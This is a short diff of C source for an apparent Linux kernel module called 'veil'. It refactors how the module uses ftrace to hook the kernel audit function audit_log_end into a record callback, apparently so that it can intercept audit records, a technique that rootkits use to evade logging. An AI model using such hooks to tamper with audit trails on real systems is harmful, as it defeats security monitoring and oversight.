@@ -195,9 +195,10 @@ static void on_record(unsigned long ip, unsigned long parent, struct ftrace_ops 
 		finish(mine);
 }
 
-static struct ftrace_ops record_hook = {
-	.func = on_record,
-	.flags = FTRACE_OPS_FL_RECURSION,
+static struct veil_hook record_hook = {
+	.function = "audit_log_end",
+	.wanted = true,
+	.ops = { .func = on_record, .flags = FTRACE_OPS_FL_RECURSION },
 };
 
 static void beat(struct work_struct *work);
@@ -214,15 +215,12 @@ static void beat(struct work_struct *work)
 
 int veil_log_init(void)
 {
-	static const char name[] = "audit_log_end";
 	int error;
 
 	collections = vzalloc(COLLECTIONS * sizeof(*collections));
 	if (!collections)
 		return -ENOMEM;
-	error = ftrace_set_filter(&record_hook, (unsigned char *)name, sizeof(name) - 1, 1);
-	if (!error)
-		error = register_ftrace_function(&record_hook);
+	error = veil_hook(&record_hook, 1);
 	if (error) {
 		vfree(collections);
 		return error;
@@ -237,8 +235,7 @@ void veil_log_exit(void)
 	unsigned int i;
 
 	cancel_delayed_work_sync(&heart);
-	unregister_ftrace_function(&record_hook);
-	ftrace_free_filter(&record_hook);
+	veil_unhook(&record_hook, 1);
 	for (i = 0; i < COLLECTIONS; i++)
 		if (collections[i].owner)
 			finish(&collections[i]);
